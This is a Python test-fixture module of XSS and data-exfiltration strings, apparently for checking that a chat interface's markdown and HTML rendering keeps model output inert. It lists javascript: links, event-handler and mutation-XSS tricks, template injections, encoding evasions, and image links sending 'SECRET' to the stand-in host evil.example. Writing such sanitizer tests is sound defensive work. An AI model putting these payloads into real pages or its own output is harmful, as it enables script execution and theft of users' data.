"""What a model or a record can hold to get something out of a browser: every form of link, picture and script we know.

``__owned`` is a function that the browser part gives to each page: whoever runs code there calls it. Nothing of
these is to be more than text. ``evil.example`` has no address anywhere.
"""

from __future__ import annotations

EVIL = "evil.example"

MARKDOWN: tuple[str, ...] = (
    "![x](https://evil.example/a.png?q=SECRET)",
    '![x](https://evil.example/a.png "t") ![][r]\n\n[r]: https://evil.example/r.png',
    "[click me](https://evil.example/b)",
    "[read more][a]\n\n[a]: https://evil.example/c 'title'\n[b]: <https://evil.example/d>",
    "<https://evil.example/e> https://evil.example/f www.evil.example //evil.example/g mailto:a@evil.example",
    "[x](javascript:__owned('link')) [x](JaVaScRiPt:__owned('link')) [x](java\tscript:__owned('link'))",
    "[x](javascript&colon;__owned('link')) [x](&#106;avascript:__owned('link')) [x](\x01javascript:__owned('link'))",
    "[x](data:text/html,<script>opener.__owned('data')</script>) [x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:__owned) [x](blob:https://evil.example/h) [x](file:///etc/passwd) [x](ftp://evil.example/i)",
    "[x](//evil.example/j) [x](\\\\evil.example\\k) [x](/\\evil.example/l) [x](https:evil.example/m) [x](///evil.example/n)",
    "[x](/admin/../../elsewhere) [x](/admin/logout/) [x](?aiAction=delete&aiId=1) [x](#\"onmouseover=__owned('x'))",
    '[![x](https://evil.example/o.png)](https://evil.example/p) [a](<javascript:__owned("x")>) [\x00](https://evil.example/)',
    '```html\n<img src=x onerror=__owned("fence")>\n```\n`<img src=x onerror=__owned("code")>`',
    '| a | b |\n|---|---|\n| ![x](https://evil.example/q.png) | <img src=x onerror=__owned("cell")> |',
    "$$\\href{javascript:__owned('tex')}{x}$$ $\\includegraphics{https://evil.example/r.png}$",
    '```mermaid\ngraph TD; A["<img src=x onerror=__owned(1)>"]; click A href "https://evil.example/s"\n```',
    "[^1]\n\n[^1]: <img src=https://evil.example/t>\n\n- [ ] <input autofocus onfocus=__owned('task')>",
)
HTML: tuple[str, ...] = (
    "<script>__owned('script')</script><script src=https://evil.example/x.js></script>",
    '</script><script>__owned("json")</script>',
    "</textarea></title></style></noscript><script>__owned('raw')</script>",
    "<img src=https://evil.example/a.png onerror=__owned('img')><img/src='x'/onerror=__owned('img')>",
    "<img srcset='https://evil.example/b.png 2x' loading=eager><picture><source srcset=https://evil.example/c></picture>",
    "<svg onload=__owned('svg')><svg/onload=__owned('svg')><svg><script>__owned('svg')</script></svg>",
    "<svg><animate onbegin=__owned('animate') attributeName=x dur=1s><set attributeName=href to=javascript:__owned(1)></svg>",
    "<svg><image href=https://evil.example/d.png /><use href=https://evil.example/e.svg#x /></svg>",
    "<svg><foreignObject><iframe src=javascript:top.__owned('foreign')></iframe></foreignObject></svg>",
    "<iframe src=https://evil.example/f></iframe><iframe srcdoc='<script>top.__owned(1)</script>'></iframe>",
    "<iframe src='javascript:top.__owned(`frame`)'></iframe><frameset onload=__owned(1)><frame src=//evil.example>",
    "<object data=https://evil.example/g></object><embed src=https://evil.example/h><applet code=x></applet>",
    "<form action=https://evil.example/i><input name=q autofocus onfocus=__owned('focus')><button>Save</button></form>",
    "</form><form action=https://evil.example/j id=f><button form=f formaction=javascript:__owned(1)>OK</button>",
    "<base href=https://evil.example/><base target=_blank>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/k'><meta http-equiv=set-cookie content=a=b>",
    "<link rel=stylesheet href=https://evil.example/l.css><link rel=prefetch href=https://evil.example/m>",
    "<style>@import 'https://evil.example/n.css'; body{background:url(https://evil.example/o)}</style>",
    "<p style='background:url(https://evil.example/p);position:fixed;inset:0' class=copilot-dialog>x</p>",
    "<math href=javascript:__owned('math')>x</math><math><mtext><table><mglyph><style><img src=x onerror=__owned(1)>",
    "<details open ontoggle=__owned('toggle')><summary>x</summary></details>",
    "<video poster=https://evil.example/q src=https://evil.example/r autoplay onerror=__owned(1)></video>",
    "<audio src=https://evil.example/s autoplay onerror=__owned(1)></audio><bgsound src=https://evil.example/t>",
    "<a href=https://evil.example/u ping=https://evil.example/v target=_blank>log in again</a>",
    "<a href='javascript:__owned(`a`)'>x</a><a href=' &#1; javascript:__owned(1)'>x</a><area href=//evil.example>",
    "<body onload=__owned('body') onpageshow=__owned(1)><table background=https://evil.example/w><td>x</table>",
    "<marquee onstart=__owned('marquee')>x</marquee><div onpointerover=__owned(1)>x</div><x contenteditable onblur=__owned(1)>",
    "<template><img src=x onerror=__owned(1)></template><noscript><p title='</noscript><img src=x onerror=__owned(1)>'>",
    "<scr<script>ipt>__owned('nested')</scr</script>ipt><<img src=x onerror=__owned(1)>",
    "<!--><img src=x onerror=__owned('comment')>--><![CDATA[<img src=x onerror=__owned(1)>]]><?xml-stylesheet href=//evil.example?>",
    "<portal src=https://evil.example/x></portal><link rel=dns-prefetch href=//evil.example><link rel=preconnect href=//evil.example>",
    "<button popovertarget=p onclick=__owned(1)>x</button><div popover id=p onbeforetoggle=__owned(1)>x</div>",
)
ENCODED: tuple[str, ...] = (
    "&lt;img src=x onerror=__owned('once')&gt;",
    "&amp;lt;img src=x onerror=__owned('twice')&amp;gt; &#60;script&#62;__owned(1)&#60;/script&#62;",
    "\\u003cimg src=x onerror=__owned('escape')\\u003e \\x3cscript\\x3e__owned(1)\\x3c/script\\x3e",
    "%3Cimg%20src%3Dx%20onerror%3D__owned(1)%3E +ADw-script+AD4-__owned(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1e__owned('wide')\uff1c/script\uff1e \u2028\u2029<img src=x\u2028onerror=__owned(1)>",
    "\u202e<gmi>\u202c \u200b<\u200bscript>\u2066 \u00ad<img\u00a0src=x> \U000e003cscript\U000e003e",
    '" onmouseover="__owned(\'attribute\')" autofocus onfocus="__owned(1)',
    "' onmouseover='__owned(1)' x='",
    "'-__owned('js')-' \\'-__owned(1)// ${__owned(1)} `${__owned(1)}` */__owned(1)/*",
    "{{constructor.constructor('__owned(1)')()}} {{7*7}} {% debug %} <%= 7*7 %> [[${7*7}]] #{7*7}",
    "javascript:__owned('whole')",
    "data:text/html,<script>__owned(1)</script>",
    "https://evil.example/whole?q=SECRET",
    "//evil.example/whole",
    "__proto__ constructor toString <b id=__owned name=location>x</b><a id=location href=//evil.example>x</a>",
    '=HYPERLINK("https://evil.example/";"x") \x1b]8;;https://evil.example\x07x\x1b]8;;\x07',
    "%(label)s %s {0} <x-y is=z></x-y> \ufeff\ufffd\u0300\u0300",
)
TEXTS: tuple[str, ...] = (*MARKDOWN, *HTML, *ENCODED)
